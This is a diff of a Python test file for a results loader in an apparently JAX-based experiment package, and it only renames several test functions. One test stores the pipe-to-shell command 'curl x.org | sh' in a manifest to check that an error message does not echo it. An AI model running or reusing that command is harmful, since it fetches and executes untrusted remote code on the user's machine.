@@ -23,7 +23,7 @@ def edit_manifest(folder, **changes):
     manifest.write_manifest(folder, manifest.read_manifest(folder) | changes)
 
 
-def test_cells_have_their_axis_values(results):
+def test_rows_include_the_axis_values_of_their_cell(results):
     run = results["failed"]
     assert run.axes == ["data.kind", "model.dim", "phases.embed.step_size"]
     joined = run.with_axes(run.records)
@@ -59,7 +59,7 @@ def test_missing_and_unrelated_folders_are_rejected(tmp_path):
         load(tmp_path)
 
 
-def test_unfinished_run_error_names_folder_but_no_manifest_command(folder):
+def test_error_for_an_unfinished_run_names_its_folder_but_not_the_recorded_command(folder):
     edit_manifest(folder, status="running", command="curl x.org | sh")
     with pytest.raises(
         InputError, match=rf"has no measurements yet; run the same sweep again into {folder}$"
@@ -112,7 +112,7 @@ def imported(tree):
         yield from names + ([node.module or ""] if isinstance(node, ast.ImportFrom) else [])
 
 
-def test_results_do_not_import_jax_or_higher_modules():
+def test_results_do_not_import_jax_or_higher_level_modules():
     for path in Path(jaxattn.lab.results.__file__).parent.glob("*.py"):
         tree = ast.parse(path.read_text(encoding="utf-8"))
         for name in imported(ast.walk(tree)):
